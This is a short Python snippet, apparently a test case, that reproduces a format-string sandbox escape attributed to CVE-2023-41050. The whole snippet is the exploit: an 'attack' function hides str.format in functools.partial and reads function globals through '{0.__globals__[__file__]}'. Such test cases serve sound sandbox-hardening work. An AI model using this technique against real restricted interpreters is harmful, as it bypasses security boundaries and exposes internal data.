# The method is kept in a partial.
# after: interpreter
# source: CVE-2023-41050 (GHSA-8xv7-89vj-q48c)
import json
from functools import partial
def attack(**_):
    return {"text": partial("{0.__globals__[__file__]}".format, json.loads)()}
